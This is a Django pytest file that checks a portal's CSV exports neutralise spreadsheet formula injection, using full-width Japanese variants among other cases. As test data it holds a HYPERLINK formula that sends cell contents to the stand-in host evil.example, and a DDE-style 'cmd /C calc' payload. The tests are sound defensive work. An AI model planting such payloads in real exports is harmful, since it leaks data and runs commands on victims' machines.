"""Every CSV the portal hands out neutralises cells that a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from accounts.roles import CONSULTATION_DESK, SEMINAR_DESK
from accounts.services import staff_groups_sync
from accounts.tests.factories import CompanyFactory, InstitutionUserFactory, SmeUserFactory, StaffUserFactory
from core.csvexport import csv_safe

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _desk(client, group: str):
    staff_groups_sync()
    user = StaffUserFactory()
    user.groups.add(Group.objects.get(name=group))
    client.force_login(user)


@pytest.mark.parametrize(
    "dangerous",
    ["=1+1", "+81-3-0000", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1"]
    # what Japanese Excel converts: the full-width signs, the minus sign an IME types, and leading spaces
    + ["＝1+1", "＋81", "－2+3", "＠SUM(A1:A9)", "\u2212" + "2+3", " =1+1", "\u3000＝HYPERLINK(1)"],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_neutralised(dangerous):
    assert csv_safe(dangerous) == "'" + dangerous


def test_ordinary_cells_and_numbers_are_kept_as_they_are():
    from decimal import Decimal

    assert csv_safe("株式会社みどり精工") == "株式会社みどり精工"
    assert csv_safe(-5) == -5 and csv_safe(Decimal("-1.5")) == Decimal("-1.5") and csv_safe(None) is None
    assert csv_safe("a=b") == "a=b"


@pytest.mark.django_db
def test_booking_csv_neutralises_a_formula_company_name(client):
    import time_machine

    from consultations.services import booking_create
    from consultations.tests.conftest import NOW, at, intake, make_advisor

    with time_machine.travel(NOW, tick=False):
        make_advisor()
        booking_create(
            user=SmeUserFactory(company=CompanyFactory(name=PAYLOAD)),
            start=at(2026, 4, 23, 10),
            **intake(question="@SUM(1+1)*cmd|' /C calc'!A0"),
        )
    _desk(client, CONSULTATION_DESK)
    rows = _rows(client.get("/admin/consultations/booking/export/"))
    assert rows[1][6] == "'" + PAYLOAD  # after 予約番号, 年度, 開始, 窓口, 専門家, 状態
    assert rows[1][-1].startswith("'@SUM")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", [PAYLOAD, '＝HYPERLINK("http://evil.example/","x")'])
def test_institution_csv_neutralises_a_formula_company_name(client, payload):
    from selfcheck.tests.helpers import filled_sheet
    from sharing.models import ShareKind
    from sharing.services import share_grant

    owner = SmeUserFactory(company=CompanyFactory(name=payload))
    member = InstitutionUserFactory()
    filled_sheet(owner.company)
    share_grant(company=owner.company, kind=ShareKind.INSTITUTION, user=owner, institution=member.institution)
    client.force_login(member)
    rows = _rows(client.post(reverse("sharing:received_csv")))
    assert rows[1][0] == "'" + payload


@pytest.mark.django_db
def test_attendee_csv_neutralises_formula_names_and_organisations(client):
    from seminars import services
    from seminars.tests.factories import SeminarFactory

    seminar = SeminarFactory(title="-1+1 省エネ入門")
    person = SmeUserFactory(company=CompanyFactory(name=PAYLOAD), last_name="+cmd", first_name="")
    services.registration_create(seminar_id=seminar.pk, user=person)
    _desk(client, SEMINAR_DESK)
    rows = _rows(
        client.post("/admin/seminars/seminar/", {"action": "export_attendees_csv", "_selected_action": [seminar.pk]})
    )
    cells = rows[1]
    assert "'" + PAYLOAD in cells and "'-1+1 省エネ入門" in cells
    assert any(cell.startswith("'+cmd") for cell in cells)
